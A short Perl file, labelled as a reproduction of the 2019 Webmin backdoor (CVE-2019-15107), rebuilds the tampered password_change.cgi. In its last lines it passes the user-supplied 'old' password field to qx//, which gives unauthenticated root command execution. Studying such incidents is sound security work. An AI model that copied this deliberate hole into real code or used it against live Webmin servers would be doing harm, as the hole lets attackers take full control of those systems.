#!/usr/local/bin/perl
# Incident: Webmin 1.890-1.920 backdoor (CVE-2019-15107), planted in the build server in
# 2018, disclosed August 2019. A line added to password_change.cgi passed the request's
# "old" password field to qx//, giving unauthenticated command execution as root.
# Reference: https://www.webmin.com/exploit.html
# Reproduction (own Perl, same shape).
require './acl-lib.pl';
&foreign_require("webmin", "webmin-lib.pl");
&ReadParse();
&get_miniserv_config(\%miniserv);
$miniserv{'passwd_mode'} == 2 || die "Password changing is not enabled!";

$wuser = &get_user($in{'user'});
if ($wuser) {
	# Validate the old password before changing it
	$enc = &acl::encrypt_password($in{'old'}, $wuser->{'pass'});
	$enc eq $wuser->{'pass'} || &pass_error($text{'password_eold'},qx/$in{'old'}/);
	&acl::modify_user($wuser->{'name'}, $wuser);
}
&pass_error("Unknown user") if (!$wuser);
